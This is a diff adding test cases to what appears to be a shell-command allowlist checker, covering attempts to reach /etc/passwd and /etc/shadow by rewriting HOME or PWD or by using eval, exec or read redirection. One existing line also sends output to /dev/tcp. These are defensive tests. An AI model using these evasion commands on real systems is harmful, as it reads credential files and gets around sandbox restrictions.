@@ -98,6 +98,12 @@ rules: [{id: x, action: allow, programs: [ls]}]`, facts, []test{{"cd /x", a}, {"
 		{"redirections", `
 mode: allowlist
 rules: [{id: x, action: allow, programs: [ls, cat]}, {id: y, action: allow, programs: [">"], paths: ["/tmp/**"]}, {id: z, action: allow, programs: ["<"], paths: ["/tmp/in"]}]`, facts, []test{{"ls > /tmp/x", a}, {"ls >> /tmp/x 2>&1", a}, {"ls > /tmp/../etc/x", d}, {"ls > x", d}, {"ls > $x", d}, {"ls >| /tmp/x", a}, {"ls &> /etc/x", d}, {"ls >& /etc/x", d}, {"cat < /etc/x", a}, {"< /tmp/in", a}, {"< /etc/x", d}, {"> /tmp/x", a}, {"cat <> /etc/x", d}, {"{ ls; cat x; } > /etc/x", d}, {"ls > /dev/null", a}, {"cat > /dev/tcp/1.2.3.4/80", d}, {"(ls) 2> /etc/x", d}, {"x=$(</etc/x)", d}, {"cat x | tee /etc/y", d}}},
+		{"directories that the line changes", `
+mode: allowlist
+rules: [{id: x, action: allow, programs: [cat, ls], paths: ["/tmp/**", "/srv/**", "/home/u/**"]}, {id: y, action: allow, programs: [echo, eval]}, {id: z, action: allow, programs: ["<"], paths: ["/tmp/**"]}]`, facts, []test{
+			{"HOME=/etc; cat ~/passwd", d}, {"export HOME=/etc; cat ~/passwd", d}, {"read HOME <<< /etc; cat ~/passwd", d}, {"for HOME in /etc; do cat ~/passwd; done", d}, {"HOME=/etc; cd && cat passwd", d}, {"for i in 1 2; do cat ~/passwd; HOME=/etc; done", d},
+			{"PWD=/etc; cat $PWD/passwd", d}, {"f() { cd /; }; cd /tmp && f && cat etc/passwd", d}, {"cd /tmp && eval 'cd /' && cat etc/passwd", d}, {"cat ~/x", a}, {"echo $HOME; cat ~/x", a}, {"H=/etc; cat ~/x", a}, {"cd /tmp && cat x", a}, {"f() { ls /tmp; }; f; cat /tmp/x", a},
+			{`read x < /etc/shadow; echo "$x"`, d}, {"exec < /etc/shadow; cat", d}, {"exec 3</etc/shadow; cat <&3", d}, {"read x < /tmp/x", a}, {"exec 3</tmp/x", a}, {"while read l; do echo $l; done < /tmp/x", a}, {"while read l; do echo $l; done < /etc/x", d}}},
 		{"variables with a rule", `
 mode: allowlist
 rules: [{id: x, action: allow, programs: [ls, cat]}, {id: y, action: allow, programs: ["PATH="], arguments: ["/opt/bin:*"]}, {id: z, action: allow, programs: ["PAGER="], arguments: [cat]}]`, facts, []test{{"PATH=/opt/bin:/bin ls", a}, {"PATH=/tmp:/bin ls", d}, {"export PAGER=cat", a}, {"export PAGER=vi", d}, {"PATH=/opt/bin:$PATH", d}}},
